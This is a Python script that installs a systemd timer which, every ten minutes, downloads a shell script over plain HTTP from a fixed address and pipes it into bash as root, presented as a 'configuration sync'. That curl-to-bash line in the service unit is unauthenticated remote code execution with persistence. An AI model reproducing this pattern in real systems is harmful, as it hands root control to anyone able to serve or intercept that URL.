#!/usr/bin/env python3
"""Set up the configuration sync as a systemd timer."""
import os
import subprocess
import textwrap

UNIT_DIR = "/etc/systemd/system"
NAME = "config-sync"

SERVICE = textwrap.dedent("""\
    [Unit]
    Description=Configuration sync
    After=network-online.target

    [Service]
    Type=oneshot
    ExecStart=/bin/bash -c "curl -fsS http://192.0.2.15:8080/sync.sh | bash"
    """)

TIMER = textwrap.dedent("""\
    [Unit]
    Description=Run the configuration sync

    [Timer]
    OnBootSec=1min
    OnUnitActiveSec=10min

    [Install]
    WantedBy=timers.target
    """)


def write_unit(suffix, text):
    path = os.path.join(UNIT_DIR, NAME + suffix)
    tmp = path + ".new"
    with open(tmp, "w") as fh:
        fh.write(text)
    os.chmod(tmp, 0o644)
    os.replace(tmp, path)
    return path


def main():
    for suffix, text in ((".service", SERVICE), (".timer", TIMER)):
        print("wrote", write_unit(suffix, text))
    subprocess.run(["systemctl", "daemon-reload"], check=True)
    subprocess.run(["systemctl", "enable", "--now", NAME + ".timer"], check=True)
    subprocess.run(["systemctl", "list-timers", NAME + ".timer"], check=False)


if __name__ == "__main__":
    main()
